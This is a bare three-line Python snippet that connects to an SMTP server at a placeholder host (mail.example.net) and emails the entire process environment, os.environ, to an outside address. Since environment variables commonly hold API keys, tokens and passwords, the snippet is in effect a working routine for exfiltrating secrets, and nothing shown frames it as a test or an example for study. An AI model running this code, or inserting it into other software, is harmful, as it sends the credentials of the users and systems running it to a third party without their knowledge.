import os, smtplib
s = smtplib.SMTP('mail.example.net')
s.sendmail('a@example.net', 'b@example.net', str(os.environ))
